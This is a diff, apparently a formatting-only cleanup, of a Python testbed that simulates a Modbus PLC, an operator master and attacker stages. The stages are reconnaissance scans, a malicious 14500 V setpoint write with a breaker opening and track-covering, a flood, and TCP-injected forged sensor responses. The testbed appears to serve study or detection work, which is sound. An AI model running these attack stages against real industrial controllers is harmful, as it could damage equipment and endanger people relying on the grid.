@@ -9,7 +9,18 @@ import random
 import struct
 import time
 
-from common import ATTACKER, DEVICES, MASTER, SCAN_PORTS, LoopTap, attacker_socket, echo_timestamps, log, port_scan, recv_some
+from common import (
+    ATTACKER,
+    DEVICES,
+    MASTER,
+    SCAN_PORTS,
+    LoopTap,
+    attacker_socket,
+    echo_timestamps,
+    log,
+    port_scan,
+    recv_some,
+)
 
 PLC, PORT = DEVICES["modbus"]
 UNIT = 1
@@ -27,6 +38,7 @@ def requirement() -> str | None:
 
 # --- PLC -------------------------------------------------------------------------------------------
 
+
 async def server(seed: int, command_every: float) -> None:
     from pymodbus import ModbusDeviceIdentification
     from pymodbus.datastore import ModbusDeviceContext, ModbusSequentialDataBlock, ModbusServerContext
@@ -36,14 +48,22 @@ async def server(seed: int, command_every: float) -> None:
     hr = [0] * 100
     hr[SETPOINT_REG] = 1100
     hr[11:14] = [1050, 1150, 400]  # limits: low, high, current
-    device = ModbusDeviceContext(di=ModbusSequentialDataBlock(1, [False] * 16),
-                                 co=ModbusSequentialDataBlock(1, [True, True, False, False] + [False] * 12),
-                                 hr=ModbusSequentialDataBlock(1, hr),
-                                 ir=ModbusSequentialDataBlock(1, [0] * N_IR))
+    device = ModbusDeviceContext(
+        di=ModbusSequentialDataBlock(1, [False] * 16),
+        co=ModbusSequentialDataBlock(1, [True, True, False, False] + [False] * 12),
+        hr=ModbusSequentialDataBlock(1, hr),
+        ir=ModbusSequentialDataBlock(1, [0] * N_IR),
+    )
     context = ModbusServerContext(devices=device, single=True)
-    ident = ModbusDeviceIdentification(info_name={"VendorName": "realstack", "ProductCode": "RS-PLC",
-                                                  "MajorMinorRevision": "3.16", "ProductName": "feeder PLC",
-                                                  "ModelName": "pymodbus"})
+    ident = ModbusDeviceIdentification(
+        info_name={
+            "VendorName": "realstack",
+            "ProductCode": "RS-PLC",
+            "MajorMinorRevision": "3.16",
+            "ProductName": "feeder PLC",
+            "ModelName": "pymodbus",
+        }
+    )
     srv = ModbusTcpServer(context, identity=ident, address=(PLC, PORT))
 
     async def process():
@@ -53,8 +73,13 @@ async def server(seed: int, command_every: float) -> None:
             volts += 0.2 * (setpoint - volts) + rng.gauss(0, 8)
             amps = max(0.0, amps + rng.gauss(0, 2))
             hz = 50.0 + 0.9 * (hz - 50.0) + rng.gauss(0, 0.005)
-            regs = [int(volts) & 0xFFFF, int(amps * 10) & 0xFFFF, int(hz * 100), int(volts * amps * 1.732 / 1000),
-                    int(20 + rng.random() * 3)] + [0] * (N_IR - 5)
+            regs = [
+                int(volts) & 0xFFFF,
+                int(amps * 10) & 0xFFFF,
+                int(hz * 100),
+                int(volts * amps * 1.732 / 1000),
+                int(20 + rng.random() * 3),
+            ] + [0] * (N_IR - 5)
             await context.async_setValues(UNIT, 4, 0, regs)
             await asyncio.sleep(0.5)
 
@@ -67,13 +92,21 @@ async def server(seed: int, command_every: float) -> None:
 
 # --- master ----------------------------------------------------------------------------------------
 
+
 async def master(seed: int, command_every: float) -> None:
     """FC3 + FC4 every second, FC1 every 2 s, an FC6 setpoint write now and then (the operator)."""
     from pymodbus.client import AsyncModbusTcpClient
 
     rng = random.Random(seed + 1)
-    client = AsyncModbusTcpClient(PLC, port=PORT, source_address=(MASTER, 0), timeout=2, retries=1,
-                                  reconnect_delay=1, reconnect_delay_max=5)
+    client = AsyncModbusTcpClient(
+        PLC,
+        port=PORT,
+        source_address=(MASTER, 0),
+        timeout=2,
+        retries=1,
+        reconnect_delay=1,
+        reconnect_delay_max=5,
+    )
     await client.connect()
     next_cmd = time.time() + rng.uniform(0.3, 0.7) * command_every
     tick = 0
@@ -87,7 +120,9 @@ async def master(seed: int, command_every: float) -> None:
             if tick % 2 == 0:
                 await client.read_coils(0, count=8, device_id=UNIT)
             if time.time() >= next_cmd:
-                await client.write_register(SETPOINT_REG, rng.choice([1090, 1095, 1100, 1105, 1110]), device_id=UNIT)
+                await client.write_register(
+                    SETPOINT_REG, rng.choice([1090, 1095, 1100, 1105, 1110]), device_id=UNIT
+                )
                 next_cmd = time.time() + rng.uniform(0.5, 1.5) * command_every
         except Exception as exc:  # the PLC in listen-only mode or restarting: keep polling, as a master does
             logging.getLogger("master").warning("poll failed: %s", exc)
@@ -96,6 +131,7 @@ async def master(seed: int, command_every: float) -> None:
 
 
 # --- attacker --------------------------------------------------------------------------------------
+
 
 def _req(tid: int, fc: int, body: bytes, unit: int = UNIT) -> bytes:
     return struct.pack(">HHHB", tid & 0xFFFF, 0, len(body) + 2, unit) + bytes([fc]) + body
@@ -113,7 +149,7 @@ def stage_recon(ctx) -> str:
     _exchange(s, tid, 43, bytes([14, 1, 0]))  # read device identification, basic
     tid += 1
     _exchange(s, tid, 17, b"")  # report server id
-    for unit in range(0, 8):  # unit-id sweep
+    for unit in range(8):  # unit-id sweep
         tid += 1
         _exchange(s, tid, 3, struct.pack(">HH", 0, 1), unit=unit, timeout=0.3)
     for addr in range(0, 1000, 50):  # register map sweep, holding then input registers
@@ -123,8 +159,10 @@ def stage_recon(ctx) -> str:
         _exchange(s, tid, 4, struct.pack(">HH", addr, 10), timeout=0.3)
         time.sleep(0.05)
     s.close()
-    return (f"TCP connect scan of {len(SCAN_PORTS)} ports (open: {open_ports}), device identification (FC 43/14, "
-            f"FC 17), unit-id sweep 0-7 and a holding/input register sweep 0-999 on {PLC}")
+    return (
+        f"TCP connect scan of {len(SCAN_PORTS)} ports (open: {open_ports}), device identification (FC 43/14, "
+        f"FC 17), unit-id sweep 0-7 and a holding/input register sweep 0-999 on {PLC}"
+    )
 
 
 def stage_write(ctx) -> str:
@@ -138,8 +176,10 @@ def stage_write(ctx) -> str:
     _exchange(s, 4, 6, struct.pack(">HH", SETPOINT_REG, 1100))  # cover tracks: setpoint back
     _exchange(s, 5, 5, struct.pack(">HH", 0, 0xFF00))
     s.close()
-    return (f"new host writes the voltage setpoint to 14500 V (FC 6), opens breaker coil 0 (FC 5), rewrites the "
-            f"limits (FC 16) on {PLC}, then puts setpoint and breaker back")
+    return (
+        f"new host writes the voltage setpoint to 14500 V (FC 6), opens breaker coil 0 (FC 5), rewrites the "
+        f"limits (FC 16) on {PLC}, then puts setpoint and breaker back"
+    )
 
 
 def stage_flood(ctx) -> str:
@@ -173,8 +213,16 @@ def stage_spoof(ctx) -> str:
     last_resp = None
     try:
         while time.time() < t_end and sent < 12:
-            seg = tap.next(lambda g: g.payload and ((g.src == PLC and g.dst == MASTER and g.sport == PORT) or
-                                                    (g.src == MASTER and g.dst == PLC and g.dport == PORT)), 3.0)
+            seg = tap.next(
+                lambda g: (
+                    g.payload
+                    and (
+                        (g.src == PLC and g.dst == MASTER and g.sport == PORT)
+                        or (g.src == MASTER and g.dst == PLC and g.dport == PORT)
+                    )
+                ),
+                3.0,
+            )
             if seg is None:
                 continue
             if seg.src == PLC:
@@ -182,12 +230,23 @@ def stage_spoof(ctx) -> str:
                 continue
             if last_resp is None or len(seg.payload) < 12 or seg.payload[7] != 4:
                 continue
-            tid, count = struct.unpack_from(">H", seg.payload, 0)[0], struct.unpack_from(">H", seg.payload, 10)[0]
+            tid, count = (
+                struct.unpack_from(">H", seg.payload, 0)[0],
+                struct.unpack_from(">H", seg.payload, 10)[0],
+            )
             regs = [11000, 2400, 5000, 4570, 21] + [0] * max(0, count - 5)
             body = bytes([4, 2 * count]) + struct.pack(f">{count}H", *regs[:count])
             forged = struct.pack(">HHHB", tid, 0, len(body) + 1, UNIT) + body
-            tap.inject(PLC, MASTER, PORT, seg.sport, last_resp.seq + len(last_resp.payload), seg.seq + len(seg.payload),
-                       forged, echo_timestamps(last_resp.options))
+            tap.inject(
+                PLC,
+                MASTER,
+                PORT,
+                seg.sport,
+                last_resp.seq + len(last_resp.payload),
+                seg.seq + len(seg.payload),
+                forged,
+                echo_timestamps(last_resp.options),
+            )
             sent += 1
             last_resp = None
     finally:
